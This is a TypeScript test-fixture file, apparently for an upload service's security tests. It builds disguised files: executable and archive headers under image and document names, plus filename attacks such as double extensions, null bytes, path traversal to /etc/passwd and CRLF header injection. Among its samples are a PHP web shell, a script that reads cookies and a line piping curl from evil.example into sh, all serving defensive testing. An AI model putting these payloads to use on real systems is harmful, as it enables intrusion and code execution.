import { photo } from '#api/testing/samples/pictures.ts';
import { eicarBytes } from '#tools/services/clamav.ts';
import { CANARY, type Extension, type Hostile, hostile, mimes } from './hostile.ts';

/** The first bytes of what people try to pass as something else. */
const foreign: Record<string, Buffer> = {
  exe: Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 'latin1'),
  elf: Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0', 'latin1'),
  gif: Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1'),
  bmp: Buffer.from('BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'latin1'),
  tiff: Buffer.from('II*\0\x08\0\0\0\0\0', 'latin1'),
  svg: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  html: Buffer.from('<!doctype html><script>alert(document.cookie)</script>'),
  php: Buffer.from('<?php system($_GET["c"]); ?>'),
  shell: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
  heic: Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
  avif: Buffer.from('\0\0\0\x1cftypavif\0\0\0\0mif1avif', 'latin1'),
  mp4: Buffer.from('\0\0\0\x18ftypisom\0\0\x02\0isomiso2', 'latin1'),
  rar: Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'),
  gzip: Buffer.from('1f8b0800000000000003', 'hex'),
  sevenZip: Buffer.from('377abcaf271c0004', 'hex'),
  jar: Buffer.from('PK\x03\x04\x14\0\x08\0', 'latin1'),
  class: Buffer.from('cafebabe00000034', 'hex'),
  wasm: Buffer.from('0061736d01000000', 'hex'),
  rtf: Buffer.from('{\\rtf1\\ansi{\\object\\objdata}}'),
  swf: Buffer.from('FWS\x09\0\0\0\0', 'latin1'),
  icc: Buffer.from('\0\0\x02\x0cappl\x02\x10\0\0', 'latin1'),
  eicar: eicarBytes(),
};

/** Every foreign thing under every accepted name, and honest bytes under dishonest names. */
export async function disguised(): Promise<Hostile[]> {
  const names: Extension[] = ['jpg', 'png', 'webp', 'pdf', 'docx'];
  const bytes = await photo();
  const as = (what: string, name: string, type: string = mimes.jpg, must: Hostile['must'] = 'refused'): Hostile => ({
    what,
    name,
    type,
    bytes,
    must,
  });
  return [
    ...Object.entries(foreign).flatMap(([what, head]) =>
      names.map((name) => hostile(`${what} as .${name}`, name, Buffer.concat([head, Buffer.alloc(200, 0x20)]))),
    ),
    as('double extension', `${CANARY}.jpg.exe`),
    as('double extension, hidden', `${CANARY}.jpg%00.exe`),
    as('no extension', CANARY),
    as('only an extension', '.jpg'),
    as('page as photo', `${CANARY}.html`, 'text/html'),
    as('drawing', `${CANARY}.svg`, 'image/svg+xml'),
    as('photo said to be a page', `${CANARY}.jpg`, 'text/html'),
    as('photo said to be a form', `${CANARY}.jpg`, 'multipart/form-data; boundary=x'),
    as('photo said to be anything', `${CANARY}.jpg`, 'application/octet-stream'),
    as('photo said to be a PNG', `${CANARY}.jpg`, 'image/png'),
    as('HEIC by name', `${CANARY}.heic`, 'image/heic'),
    as('name that cannot be decoded', '%E0%A4%A'),
    as('no name', ''),
    as('a path', '..%2F..%2F..%2Fetc%2Fpasswd.jpg', mimes.jpg, 'good'),
    as('a Windows path', 'C%3A%5CWindows%5Cwin.jpg', mimes.jpg, 'good'),
    as('text running backwards', `${CANARY}%E2%80%AEgpj.jpg`, mimes.jpg, 'good'),
    as('a very long name', `${'x'.repeat(3_000)}.jpg`, mimes.jpg, 'good'),
    as('a line break in the name', 'a%0D%0ASet-Cookie%3Ax%3D1.jpg', mimes.jpg, 'good'),
    hostile('one byte too many', 'jpg', Buffer.concat([bytes, Buffer.alloc(10 * 1024 * 1024 + 1 - bytes.length)])),
  ];
}
